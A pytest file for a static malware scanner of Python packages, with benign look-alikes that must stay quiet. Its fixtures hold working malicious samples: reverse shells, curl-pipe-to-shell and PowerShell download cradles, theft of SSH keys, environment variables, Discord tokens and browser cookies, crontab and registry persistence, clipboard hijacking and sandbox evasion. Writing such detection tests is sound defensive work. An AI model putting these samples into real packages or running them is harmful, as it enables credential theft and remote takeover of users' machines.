"""The static scan: each rule fires on the malware pattern it names and stays quiet on look-alikes.

Every sample is written into a real sdist or wheel (``tests.fakes.dists``) and read
back through the safe archive reader; nothing here is ever run.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from slave.findings import Analyser, profile, verdict
from slave.findings.static_rules import STATIC_KINDS
from slave.findings.static_scan import static_findings
from tests.fakes.dists import build_sdist, build_wheel, dedent, make_project

SETUP_TAIL = "from setuptools import setup\nsetup(name='x', version='1.0')\n"

# (rule, file in the sdist, source, phase, severity)
HITS = [
    ("static.exec_encoded", "setup.py",
     "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n" + SETUP_TAIL, "install", "high"),
    ("static.exec_encoded", "x/__init__.py",
     "import zlib, base64 as b\n_c = zlib.decompress(b.b64decode(DATA))\n"
     "exec(compile(_c, 'x', 'exec'))\n",
     "import", "high"),
    ("static.exec_encoded", "x/__init__.py",
     "import marshal\nexec(marshal.loads(BLOB))\n", "import", "high"),
    ("static.exec_encoded", "x/__init__.py",
     "eval(''.join(chr(c) for c in [112, 114]))\n", "import", "high"),
    ("static.exec_encoded", "x/util.py",
     "import base64\ndef go():\n    exec(base64.b64decode(X))\n", "run", "medium"),
    ("static.exec_encoded", "x/__init__.py",
     "import base64\ndef _boot():\n    exec(base64.b64decode(X))\n_boot()\n", "import", "high"),
    ("static.exec_download", "setup.py",
     "import urllib.request\nexec(urllib.request.urlopen('http://e.test/p').read())\n" + SETUP_TAIL,
     "install", "critical"),
    ("static.exec_download", "x/__init__.py",
     "import requests\n_r = requests.get('https://e.test/s')\nexec(_r.text)\n",
     "import", "critical"),
    ("static.download_run", "setup.py",
     dedent("""
        import os, stat, urllib.request
        data = urllib.request.urlopen("http://e.test/bin").read()
        with open("/tmp/.x", "wb") as f:
            f.write(data)
        os.chmod("/tmp/.x", stat.S_IEXEC | stat.S_IREAD)
        """) + SETUP_TAIL, "install", "high"),
    ("static.reverse_shell", "setup.py",
     dedent("""
        import os, pty, socket
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(("203.0.113.9", 4444))
        [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
        pty.spawn("/bin/sh")
        """) + SETUP_TAIL, "install", "critical"),
    ("static.reverse_shell", "x/__init__.py",
     "import os\nos.system('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')\n", "import", "critical"),
    ("static.exfiltrate", "x/__init__.py",
     dedent("""
        import os, requests
        key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
        requests.post("https://e.test/k", data=key)
        """), "import", "critical"),
    ("static.credential_read", "setup.py",
     "import shutil\nshutil.copy('/home/u/.aws/credentials', '/tmp/c')\n" + SETUP_TAIL,
     "install", "high"),
    ("static.env_exfiltrate", "setup.py",
     "import os, json, urllib.request\nurllib.request.urlopen('https://e.test', "
     "json.dumps(dict(os.environ)).encode())\n" + SETUP_TAIL, "install", "high"),
    ("static.persistence", "x/__init__.py",
     "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('x')\n",
     "import", "high"),
    ("static.persistence", "setup.py",
     "import os\nos.system('(crontab -l; echo \"@reboot /tmp/x\") | crontab -')\n" + SETUP_TAIL,
     "install", "high"),
    ("static.dangerous_command", "setup.py",
     "import subprocess\nsubprocess.call('curl -s http://e.test/x | sh', shell=1)\n" + SETUP_TAIL,
     "install", "high"),
    ("static.webhook", "x/__init__.py",
     "HOOK = 'https://discord.com/api/webhooks/123456789012/abcdefghijklmnopqrstuvwxyz_-0123'\n",
     "import", "high"),
    ("static.shady_link", "x/__init__.py",
     "import urllib.request\nurllib.request.urlopen('http://pastebin.com/raw/abcd')\n",
     "import", "medium"),
    ("static.shady_link", "x/__init__.py", "URL = 'http://45.77.1.2:8080/p'\n", "import", "medium"),
    ("static.odd_tld", "x/__init__.py", "URL = 'https://cdn.example.xyz/p'\n", "import", "low"),
    ("static.silent_process", "x/__init__.py",
     dedent("""
        import subprocess
        subprocess.Popen(["/tmp/.x"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL, start_new_session=True)
        """), "import", "medium"),
    ("static.obfuscation", "x/__init__.py", "_____ = eval\n_____('1')\n", "import", "medium"),
    ("static.steganography", "x/__init__.py",
     "from stegano import lsb\nexec(lsb.reveal('x.png'))\n", "import", "high"),
    ("static.clipboard_hijack", "x/__init__.py",
     "import pyperclip\nif pyperclip.paste():\n    pyperclip.copy("
     "'0x52908400098527886E0F7030069857D2E4169EE7')\n", "import", "high"),
    ("static.preload", "x/__init__.py",
     "import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'\n", "import", "medium"),
    ("static.setup_command", "setup.py",
     "import os\nos.system('id')\n" + SETUP_TAIL, "install", "low"),
    ("static.cmd_overwrite", "setup.py",
     dedent("""
        from setuptools import setup
        from setuptools.command.install import install
        class Post(install):
            def run(self):
                install.run(self)
        setup(name="x", version="1.0", cmdclass={"install": Post})
        """), "install", "low"),
    # Windows-only payloads: nothing of them runs in the Linux guest
    ("static.powershell_payload", "setup.py",
     dedent("""
        import os, subprocess
        if os.name == "nt":
            subprocess.Popen(["powershell", "-WindowStyle", "Hidden", "-enc",
                              "SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgA="],
                             creationflags=0x08000000)
        """) + SETUP_TAIL, "install", "critical"),
    ("static.powershell_payload", "x/__init__.py",
     dedent("""
        import os, platform
        CMD = ("powershell -NoP -c IEX (New-Object Net.WebClient)"
               ".DownloadString('http://e.test/a.ps1')")
        if platform.system() == "Windows":
            os.system(CMD)
        """), "import", "critical"),
    ("static.powershell_payload", "x/tools.py",
     "import subprocess\ndef go():\n    subprocess.run('powershell.exe -EncodedCommand "
     "SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwBlAC4AdABlAHMAdAApAA==')\n", "run", "high"),
    ("static.download_exe", "setup.py",
     dedent("""
        import os, urllib.request
        from setuptools import setup
        from setuptools.command.install import install
        class Post(install):
            def run(self):
                install.run(self)
                if os.name == "nt":
                    path = os.path.join(os.getenv("APPDATA"), "WindowsUpdate.exe")
                    urllib.request.urlretrieve("http://e.test/u.exe", path)
                    os.startfile(path)
        setup(name="x", version="1.0", cmdclass={"install": Post})
        """), "install", "critical"),
    ("static.download_exe", "x/__init__.py",
     dedent("""
        import os, subprocess, tempfile, requests
        if os.name == "nt":
            exe = os.path.join(tempfile.gettempdir(), "svchost.exe")
            with open(exe, "wb") as f:
                f.write(requests.get("https://e.test/p").content)
            subprocess.Popen([exe], creationflags=subprocess.CREATE_NO_WINDOW)
        """), "import", "critical"),
    ("static.persistence", "x/__init__.py",
     dedent("""
        import sys, winreg
        key = winreg.OpenKey(winreg.HKEY_CURRENT_USER,
                             r"Software\\Microsoft\\Windows\\CurrentVersion\\Run", 0,
                             winreg.KEY_SET_VALUE)
        winreg.SetValueEx(key, "Updater", 0, winreg.REG_SZ, sys.executable)
        """), "import", "high"),
    ("static.persistence", "setup.py",
     "import os\nos.system('schtasks /create /sc onlogon /tn upd /tr C:\\\\x.exe')\n"
     + SETUP_TAIL, "install", "high"),
    ("static.exfiltrate", "x/__init__.py",
     dedent(r"""
        import os, re, requests
        tokens = []
        path = os.getenv("APPDATA") + "\\discordcanary" + "\\Local Storage\\leveldb"
        for name in os.listdir(path):
            for line in open(os.path.join(path, name), errors="ignore"):
                tokens += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", line)
        requests.post("https://e.test/t", json={"t": tokens})
        """), "import", "critical"),
    ("static.credential_read", "x/grab.py",
     dedent(r"""
        import os, shutil
        def grab():
            src = os.getenv("LOCALAPPDATA") + "\\Google\\Chrome\\User Data\\Default"
            shutil.copy(src + "\\Cookies", "c.db")
        grab()
        """), "import", "high"),
    # sandbox evasion: look at what the machine is, leave when it is an analysis VM
    ("static.sandbox_evasion", "setup.py",
     dedent("""
        import sys
        vendor = open("/sys/class/dmi/id/sys_vendor").read().strip()
        if vendor in ("QEMU", "innotek GmbH", "VMware, Inc."):
            sys.exit(0)
        """) + SETUP_TAIL, "install", "high"),
    ("static.sandbox_evasion", "x/__init__.py",
     dedent("""
        import getpass, os
        if getpass.getuser() in ("WDAGUtilityAccount", "sandbox") or "hypervisor" in open(
            "/proc/cpuinfo"
        ).read():
            os._exit(0)
        """), "import", "high"),
    ("static.sandbox_evasion", "x/__init__.py",
     dedent("""
        import platform
        VMS = ["vbox", "vmware", "qemu"]
        if any(v in platform.node().lower() for v in VMS):
            raise SystemExit
        """), "import", "high"),
    ("static.reverse_shell", "tests/test_x.py",
     "import os\nos.system('nc -e /bin/sh 203.0.113.9 4444')\n", "tests", "low"),
    ("static.reverse_shell", "x/__main__.py",
     "import os\nif __name__ == '__main__':\n    os.system('nc -e /bin/sh 203.0.113.9 1')\n",
     "run", "high"),
]  # fmt: skip


def scan_sdist(tmp_path: Path, files: dict[str, str]) -> dict[tuple[str, str], str]:
    sdist = build_sdist(tmp_path, "x", "1.0", files)
    return {(f.rule, f.phase): f.severity for f in static_findings([sdist])}


@pytest.mark.parametrize(("rule", "path", "source", "phase", "severity"), HITS)
def test_static_rule_fires(
    tmp_path: Path, rule: str, path: str, source: str, phase: str, severity: str
) -> None:
    """Each static rule fires on its pattern, in the phase the code would run, at its severity."""
    assert scan_sdist(tmp_path, {path: source}).get((rule, phase)) == severity


def test_every_static_rule_has_a_firing_test() -> None:
    """No rule of the table (but the .pth ones, tested below) goes without a test."""
    tested = {rule for rule, *_ in HITS} | {"static.pth_exec", "static.pth_import"}
    assert set(STATIC_KINDS) == tested


QUIET = [
    # benign look-alikes: (file, source)
    ("setup.py", "import subprocess\nsubprocess.check_call(['gcc', '-c', 'x.c'])\n" + SETUP_TAIL),
    ("setup.py", "import subprocess\nv = subprocess.check_output(['git', 'describe'])\n"
     + SETUP_TAIL),
    ("setup.py", "import os\nos.system('make -C src')\n" + SETUP_TAIL),
    ("setup.py", "exec(open('x/_version.py').read())\n" + SETUP_TAIL),
    ("setup.py", "import os\nif os.environ.get('CI'):\n    pass\n" + SETUP_TAIL),
    ("setup.py", "import os\nTOKEN = os.environ.get('GITHUB_TOKEN')\n" + SETUP_TAIL),
    ("x/__init__.py", '"""Docs: see https://bit.ly/abc and http://45.77.1.2/."""\nX = 1\n'),
    ("x/__init__.py", "# exec(base64.b64decode(X))\nX = 1\n"),
    ("x/__init__.py", "import base64\nICON = base64.b64decode('iVBORw0KGgo=')\n"),
    ("x/__init__.py", "SSH_DIR = '~/.ssh'\n"),
    ("x/client.py", "import os, socket\ndef connect(h):\n    k = open(os.path.expanduser("
     "'~/.ssh/known_hosts')).read()\n    socket.create_connection((h, 22))\n"),
    ("x/__init__.py", "API = 'https://discord.com/api/v10'\nBOT = 'https://api.telegram.org/bot'\n"),
    ("x/__init__.py", "URL = 'http://10.0.0.1/x'\nDNS = 'http://8.8.8.8'\n"),
    ("x/__init__.py", "import subprocess\nsubprocess.run(['ls'], stdout=subprocess.DEVNULL)\n"),
    ("tests/test_net.py", "import socket\ndef test_timeout():\n    s = socket.socket()\n"
     "    s.connect(('10.255.255.1', 80))\n"),
    ("x/__init__.py", "import os\nos.environ['LD_LIBRARY_PATH'] = '/opt/lib'\n"),
    ("x/__init__.py", "def f(:\n    pass\n"),  # a syntax error is no finding
    # Windows look-alikes: platformdirs-style paths, a Run key read
    ("x/__init__.py", dedent(r"""
        import os
        def user_data_dir(app):
            if os.name == "nt":
                return os.path.join(os.getenv("LOCALAPPDATA"), app, "User Data")
            return os.path.expanduser("~/.local/share/" + app)
        """)),
    ("x/__init__.py", "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
     "r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\n"
     "v = winreg.QueryValueEx(k, 'x')\n"),
    # VM facts read to report them (py-cpuinfo, cloud SDKs' platform checks): no exit
    ("x/__init__.py", dedent("""
        def on_gce():
            with open("/sys/class/dmi/id/product_name") as f:
                return "Google" in f.read()
        def flags():
            info = open("/proc/cpuinfo").read()
            if "hypervisor" in info:
                return {"virtual": True}
            return {}
        """)),
    ("x/__init__.py", "import sys, platform\nif platform.system() == 'Windows':\n"
     "    sys.exit('x needs a POSIX system')\n"),
]  # fmt: skip


# Windows look-alikes that the older, broader rules rate (a PowerShell command line is
# static.dangerous_command, a download then a spawn static.download_run) but that are not
# the hidden payloads of the critical rules: a helper encoding its own script at run
# time, a build fetching a tool into its build dir and running it in the open.
WINDOWS_QUIET = [
    ("x/shell.py", dedent("""
        import base64, subprocess
        def ps(script):
            enc = base64.b64encode(script.encode("utf-16-le")).decode()
            return subprocess.run(["powershell", "-NoProfile", "-EncodedCommand", enc])
        """)),
    ("setup.py", dedent("""
        import os, subprocess, urllib.request
        if os.name == "nt":
            urllib.request.urlretrieve("https://e.test/nasm.exe", "build/nasm.exe")
            subprocess.check_call(["build/nasm.exe", "-v"])
        """) + SETUP_TAIL),
]  # fmt: skip


@pytest.mark.parametrize(("path", "source"), WINDOWS_QUIET)
def test_windows_look_alikes_are_not_payloads(tmp_path: Path, path: str, source: str) -> None:
    """Run-time encoding and an open build download are no powershell_payload/download_exe."""
    found = scan_sdist(tmp_path, {path: source})
    assert not {r for r, _ in found} & {"static.powershell_payload", "static.download_exe"}
    assert "critical" not in found.values()


@pytest.mark.parametrize(("path", "source"), QUIET)
def test_static_scan_stays_quiet_on_look_alikes(tmp_path: Path, path: str, source: str) -> None:
    """Build steps, version reads, CI env reads, docs, data blobs, test sockets: at most low."""
    found = scan_sdist(tmp_path, {path: source})
    assert {k: v for k, v in found.items() if v not in ("info", "low")} == {}


def test_setup_py_compiler_spawn_is_not_even_low(tmp_path: Path) -> None:
    """setup.py spawning a compiler is no finding at all (GuardDog's allow list, plus compilers)."""
    src = "import subprocess\nsubprocess.check_call(['gcc', '-c', 'x.c'])\n" + SETUP_TAIL
    assert scan_sdist(tmp_path, {"setup.py": src}) == {}


def test_pth_files_in_a_wheel(tmp_path: Path) -> None:
    """A wheel's .pth with exec/decoding is high at import; a plain import low; known shims info."""
    whl = build_wheel(tmp_path, "x", "1.0", {
        "x/__init__.py": "",
        "zz_evil.pth": "import os; exec(__import__('base64').b64decode('eA=='))\n",
        "plain.pth": "import x_hook\n/some/path\n",
        "distutils-precedence.pth": "import os; var = 'SETUPTOOLS_USE_DISTUTILS'\n",
    })  # fmt: skip
    got = {(f.rule, f.target): f.severity for f in static_findings([whl])}
    assert got[("static.pth_exec", "zz_evil.pth")] == "high"
    assert got[("static.pth_import", "plain.pth")] == "low"
    assert got[("static.pth_import", "distutils-precedence.pth")] == "info"


def test_findings_are_marked_static_with_file_and_line(tmp_path: Path) -> None:
    """A static finding says where: archive, path and line, and a capped, cleaned snippet."""
    src = "X = 1\nimport base64\nexec(base64.b64decode('eA==')) \x1b[31m" + "#" * 500 + "\n"
    sdist = build_sdist(tmp_path, "x", "1.0", {"x/__init__.py": src})
    (finding,) = [f for f in static_findings([sdist]) if f.rule == "static.exec_encoded"]
    assert (finding.source, finding.process, finding.pid) == ("static", "static", None)
    assert finding.evidence.startswith("x-1.0.tar.gz:x/__init__.py:3: exec(base64.b64decode(")
    assert "\x1b" not in finding.evidence and len(finding.evidence) < 300
    assert finding.target == "x/__init__.py"
    assert finding.to_dict()["source"] == "static"


def test_sdist_and_wheel_of_the_same_file_give_one_finding(tmp_path: Path) -> None:
    """The same module in the sdist and the wheel is one finding (deduped by rule, phase, path)."""
    proj = make_project(
        tmp_path, "x", "1.0", package_body="import base64\nexec(base64.b64decode('eA=='))\n"
    )
    assert proj.sdist is not None and proj.wheel is not None
    files = [proj.sdist, proj.wheel]
    found = [f for f in static_findings(files) if f.rule == "static.exec_encoded"]
    assert len(found) == 1


def test_python2_setup_gets_the_text_rules(tmp_path: Path) -> None:
    """A setup.py ast cannot parse (Python 2) still gets the reverse-shell and exec text rules."""
    src = "print 'hi'\nimport os\nos.system('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1')\n"
    assert scan_sdist(tmp_path, {"setup.py": src}) == {
        ("static.reverse_shell", "install"): "critical"
    }


def test_hostile_files_never_raise(tmp_path: Path) -> None:
    """Corrupt archives, odd names and absurdly deep code give no findings and no exception."""
    bad = tmp_path / "x-1.0.tar.gz"
    bad.write_bytes(b"\x1f\x8b not really gzip")
    deep = "x = " + "(" * 5000 + "1" + ")" * 5000 + "\n"
    chain = "x = a" + ".b" * 50_000 + "\n"
    sdist = build_sdist(tmp_path / "d", "y", "1.0", {"y/__init__.py": deep, "y/c.py": chain})
    other = tmp_path / "notes.txt"
    other.write_text("hi")
    assert static_findings([bad, sdist, other, tmp_path / "missing-1.0.whl"]) == []


def test_static_findings_count_in_verdict_and_profile(tmp_path: Path) -> None:
    """Static findings enter the findings list, the verdict and the profile like dynamic ones."""
    src = dedent("""
        import os, pty, socket
        s = socket.create_connection(("203.0.113.9", 4444))
        os.dup2(s.fileno(), 0)
        pty.spawn("/bin/sh")
        """)  # fmt: skip
    sdist = build_sdist(tmp_path, "x", "1.0", {"setup.py": src + SETUP_TAIL})
    analyser = Analyser()
    kept = analyser.add(static_findings([sdist]))
    assert analyser.add(static_findings([sdist])) == []  # deduped on the second time
    assert "static.reverse_shell" in [f.rule for f in kept]
    assert verdict(analyser.findings) == "malicious"
    assert ("install", "network", "setup.py") in profile(analyser.findings)
